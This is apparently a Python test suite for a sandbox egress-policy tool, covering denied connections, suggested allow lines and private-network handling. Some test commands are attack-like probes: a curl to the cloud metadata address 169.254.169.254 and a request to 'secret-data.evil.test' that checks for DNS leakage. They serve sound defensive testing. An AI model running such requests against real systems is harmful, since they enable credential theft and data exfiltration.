#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""advised_line_test.py - what is refused is told with the line that allows it, and that line is whole: taken into the policy as it was printed, the
second run gets there, whatever tool asked, at whatever port, speaking whatever it speaks, inside the network or outside of it."""
import os
import re
import shutil
import subprocess
import sys

import yaml

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from dd import AS_USER, BUILD_PHASE, DRYDOCK, FETCH, Job, Skip, case, check, equal, main, py, step  # noqa: E402
from world import ALLOWED, PRIVATE, Resolver, Sink  # noqa: E402

TCP_PORTS = (22, 80, 443, 873, 2022, 3306, 3690, 4873, 5432, 5433, 8080, 9418)
OUT, IN, W = {}, {}, {}


class Brief(Sink):
    """Hears the first word of a client and hangs up: that it got there is all that is asked."""

    def _serve(self, peer):
        try:
            with peer:
                peer.sendall(self.banner)
                self.data += peer.recv(65536)
        except OSError:
            pass
        self.closed += 1


def setup():
    dns = W["dns"] = Resolver()
    for host in ("a.test", "b.test"):
        dns.say(host, ALLOWED)
    dns.say("inside.test", PRIVATE[0])
    for port in TCP_PORTS:
        OUT[port] = Brief(ALLOWED, port, banner=b"SSH-2.0-x\r\n" if port in (22, 2022) else b"")
        IN[port] = Brief(PRIVATE[0], port, banner=b"SSH-2.0-x\r\n" if port in (22, 2022) else b"")
    with open("/etc/hosts", "a", encoding="utf-8") as file:   # the world's own
        file.write(f"{PRIVATE[0]} listed.corp listed\n")


SENTENCE = re.compile(r"; to allow it, (?:in \S+ |in a policy file \(--policy; there is none now\) )?(.*)$")
PLACE = re.compile(r"(?:^| and )(?:add )?under ([a-z.]+)(?:, before the others)?: - (\{.*?\})(?= and under |$)")
KEYS = re.compile(r"^add (`.*`) to the entry at \S+:(\d+):\d+$")


def take(policy, text, lines):
    """@policy with what a line of the log says, nothing else. @lines: the file as it was, for entries that are named by their place."""
    keys = KEYS.match(text)
    if keys:
        entry = yaml.safe_load(lines[int(keys.group(2)) - 1].strip().rstrip(",").removeprefix("- "))
        egress = policy["phases"]["fetch"]["egress"]
        at = egress.index(entry)
        for key in re.findall(r"`([^`]+)`", keys.group(1)):
            egress[at].update(yaml.safe_load(key))
        return
    places = PLACE.findall(text)
    check(places, f"no line in: {text}")
    for where, item in places:
        at = policy
        for key in where.split(".")[:-1]:
            at = at.setdefault(key, {})
        at.setdefault(where.split(".")[-1], []).insert(0, yaml.safe_load(item))


def write(job, policy):
    """One entry on each line, so that a place is a line."""
    text = "version: 1\n"
    for key, value in policy.items():
        if key == "phases":
            text += "phases:\n" + "".join(
                f"  {p}:\n" + "".join(f"    {k}: {v}\n" if not isinstance(v, list) else f"    {k}:\n" + "".join(
                    f"      - {yaml.safe_dump(e, default_flow_style=True, width=10000).strip()}\n" for e in v) for k, v in rules.items())
                for p, rules in value.items())
        elif key == "steps":
            text += "steps:\n" + "".join(f"  - {yaml.safe_dump(r, default_flow_style=True, width=10000).strip()}\n" for r in value)
    job.write("policy.yml", text)
    return text.split("\n")


def second_run(run, sink, egress=(), phase=FETCH, ident="one", options=(), first_reaches=False):
    """Refused, told, taken, reached."""
    phased = step(ident or "one", run, phase)
    job = Job([phased], {"fetch": {"egress": list(egress)}})
    try:
        policy = {"steps": [{"phase": "fetch", "match": {"id": ident}}] if phase == FETCH else [], "phases": {"fetch": {"egress": list(egress)} if egress else {}}}
        if not ident:
            with open(os.path.join(job.dir, "workflow.yml"), encoding="utf-8") as file:
                text = file.read()
            job.write("workflow.yml", re.sub(r'"?id"?: "?one"?, ?', "", text))
        if not egress:
            del policy["phases"]
        if not policy["steps"]:
            del policy["steps"]
        lines, before = write(job, policy), sink.connections
        r = job.run(*options)
        told = [m.group(1) for m in map(SENTENCE.search, r.out.split("\n")) if m]
        check(told, "nothing was told", r)
        equal(sink.connections, before, "connections before the line", r)
        for text in dict.fromkeys(told):
            take(policy, text, lines)
        write(job, policy)
        r = job.run()
        denied = [(e["event"], e.get("host"), e.get("port"), e["reason"]) for e in r.record if e["event"] in ("net.deny", "dns.deny")]
        check(sink.connections > before, f"not reached at the second run: {told}, then {denied}", r)
        equal([d for d in denied if d[3] != "record-type"], [], f"still refused after {told}", r)
    finally:
        job.close()


def need(tool):
    if not shutil.which(tool, path="/usr/bin:/bin"):
        raise Skip(f"no {tool}")
    return tool


SSH = "timeout 10 ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no"
TABLE = [
    # tool, what it runs, port, more
    ("curl", "curl -sS -m 3 http://a.test/x || true", 80),
    ("curl", "curl -sS -m 3 -k https://a.test/x || true", 443),
    ("curl", "curl -sS -m 3 http://a.test:8080/x || true", 8080),
    ("curl", "curl -sS -m 3 a.test || true", 80),
    ("curl", "curl -sS -m 3 --http2-prior-knowledge http://a.test:8080/ || true", 8080),
    ("wget", "wget -q -T 3 -t 1 -O - http://a.test:8080/ || true", 8080),
    ("ssh", f"{SSH} git@a.test true || true", 22),
    ("ssh", f"{SSH} -p 2022 a.test true || true", 2022),
    ("scp", "printf x > x; timeout 10 scp -o BatchMode=yes -o ConnectTimeout=3 x me@a.test:y || true", 22),
    ("sftp", "timeout 10 sftp -o BatchMode=yes -o ConnectTimeout=3 me@a.test:y . || true", 22),
    ("git", "timeout 5 git clone -q git@a.test:x.git || true", 22),
    ("git", "timeout 5 git clone -q ssh://git@a.test:2022/x.git || true", 2022),
    ("git", "timeout 3 git clone -q git://a.test/x.git || true", 9418),
    ("git", "timeout 5 git clone -q http://a.test:8080/x.git || true", 8080),
    ("apt-get", "mkdir -p a/lists/partial; echo 'deb [trusted=yes] http://a.test d main' > s; timeout 10 apt-get -qq -o Dir::Etc::SourceList=$PWD/s -o "
                "Dir::Etc::SourceParts=/x -o Dir::State=$PWD/a -o Dir::State::Lists=$PWD/a/lists -o Dir::Cache=$PWD/a -o Acquire::http::Timeout=2 "
                "-o Acquire::Retries=0 -o Debug::NoLocking=1 update || true", 80),
    ("npm", "timeout 20 npm view x --registry=http://a.test:4873/ --fetch-retries=0 --fetch-timeout=2000 || true", 4873),
    ("npm", "export npm_config_registry=http://a.test:4873/; timeout 20 npm view x --fetch-retries=0 --fetch-timeout=2000 || true", 4873),
    ("psql", "PGCONNECT_TIMEOUT=3 psql -h a.test -U me x -c 'select 1' || true", 5432),
    ("psql", "PGCONNECT_TIMEOUT=3 psql postgresql://me@a.test:5433/x -c 'select 1' || true", 5433),
    ("openssl", "timeout 3 openssl s_client -connect a.test:443 </dev/null || true", 443),
    ("python3", py('attempt("x", lambda: tcp("a.test", 3306, b"").recv(1))'), 3306),
    ("curl", f"curl -sS -m 3 http://{ALLOWED}:8080/ || true", 8080),
]


for number, (tool, run, port) in enumerate(TABLE):
    def one(tool=tool, run=run, port=port):
        need(tool)
        second_run(run, OUT[port])
    case("W-09", f"{number + 1}: {tool}, port {port}: the line that was printed is all that is needed")(one)


@case("W-09", "the name is on the list with another port: the port that was tried comes with what is spoken there")
def _():
    second_run(f"{SSH} a.test true || true", OUT[22], [{"host": "a.test", "port": 443}])
    second_run(py('attempt("x", lambda: tcp("a.test", 5432, b"x" * 8).recv(1))'), OUT[5432], [{"host": "a.test", "port": 443}])


@case("W-09", "an entry for another port says how the name is reached; the new line says it too")
def _():
    second_run("curl -sS -m 3 http://inside.test:8080/ || true", IN[8080], [{"host": "inside.test", "port": 80, "private": "allow"}])
    second_run("curl -sS -m 3 http://pinned.test:8080/ || true", IN[8080],
               [{"host": "pinned.test", "port": 80, "private": "allow", "address": [PRIVATE[0]]}])


@case("W-09", "a private answer on a listed port: the entry gets all that it lacks in one line")
def _():
    second_run("curl -sS -m 3 http://inside.test/ || true", IN[80], [{"host": "inside.test", "port": 80}])
    second_run(f"{SSH} inside.test true || true", IN[22], [{"host": "inside.test", "port": 22}])


@case("W-09", "a name that the host's own file puts inside the network, by its long and its short name")
def _():
    second_run("curl -sS -m 3 http://listed.corp:8080/ || true", IN[8080])
    second_run("curl -sS -m 3 http://listed/ || true", IN[80])


@case("X-14", "what `policy check` says to write for a service of this host's loopback works")
def _():
    job = Job([step("one", "curl -sS -m 3 http://service.test:8080/ || true", FETCH)], {"fetch": {"egress": [{"host": "localhost", "private": "allow"}]}})
    local = Brief("127.0.0.1", 8080)
    try:
        done = subprocess.run([*AS_USER, DRYDOCK, "policy", "check", "policy.yml"], cwd=job.dir, capture_output=True, check=False)
        equal(done.returncode, 2, done.stderr.decode())
        [line] = re.findall(r"write `(\{.*?\})`", done.stderr.decode())
        write(job, {"steps": [{"phase": "fetch", "match": {"id": "one"}}], "phases": {"fetch": {"egress": [yaml.safe_load(line)]}}})
        r = job.run()
        equal(local.connections, 1, "connections to the service", r)
    finally:
        job.close()


@case("W-09", "a private answer while observing: the whole line at once")
def _():
    second_run("curl -sS -m 3 http://inside.test:8080/ || true", IN[8080], options=["--observe"])
    second_run(f"{SSH} -p 2022 inside.test true || true", IN[2022], options=["--observe"])


@case("V-08", "a private answer while observing: suggest writes what the enforced run needs, and says so")
def _():
    job = Job([step("one", "curl -sS -m 3 http://inside.test:8080/ || true", FETCH)])
    try:
        os.unlink(os.path.join(job.dir, "policy.yml"))
        done = subprocess.run([*AS_USER, DRYDOCK, "run", "workflow.yml", "--observe", "--record", "seen.jsonl", "--workspace", "src"], cwd=job.dir,
                              capture_output=True, check=False, env=job.environ())
        equal(done.returncode, 0, done.stdout.decode() + done.stderr.decode())
        made = subprocess.run([*AS_USER, DRYDOCK, "policy", "suggest", "seen.jsonl"], cwd=job.dir, capture_output=True, check=False)
        check("host: \"inside.test\", port: 8080, private: allow" in made.stdout.decode(), made.stdout.decode())
        check("inside your network" in made.stderr.decode(), made.stderr.decode())
        job.write("policy.yml", made.stdout.decode())
        before = IN[8080].connections
        r = job.run()
        check(IN[8080].connections > before, "not reached", r)
    finally:
        job.close()


@case("W-09", "a step of build, with an id and without one: the rule for it is printed too")
def _():
    second_run("curl -sS -m 3 http://a.test:8080/ || true", OUT[8080], phase=BUILD_PHASE)
    second_run("curl -sS -m 3 http://a.test:8080/ || true", OUT[8080], phase=BUILD_PHASE, ident=None)
    second_run("set -e\ncurl -sS -m 3 http://a.test:8080/?q=1 || true\n", OUT[8080], phase=BUILD_PHASE, ident=None)


@case("W-09", "where a line looks possible and none would help, the log says why")
def _():
    job = Job([step("one", "curl -sS -m 3 'http://[2a0a:1:2::66]:8080/' || true; curl -sS -m 3 http://169.254.169.254/ || true", FETCH)],
              {"fetch": {"egress": [{"host": "a.test"}]}})
    try:
        r = job.run()
        check("no line would allow it: steps have IPv4 through the gate only" in r.out, "IPv6", r)
        check("169.254.169.254:80 in phase fetch: metadata service: blocked in every phase" in r.out, "metadata", r)
    finally:
        job.close()


@case("N-04", "no query leaves the host to make a line of it")
def _():
    before = len(W["dns"].queries)
    job = Job([step("one", "curl -sS -m 3 http://secret-data.evil.test/ || true", FETCH)], {"fetch": {"egress": [{"host": "a.test"}]}})
    try:
        r = job.run()
        check("host: secret-data.evil.test, port: 80," in r.out, "the line", r)
        equal(len(W["dns"].queries), before, "queries upstream", r)
    finally:
        job.close()


if __name__ == "__main__":
    main(setup)
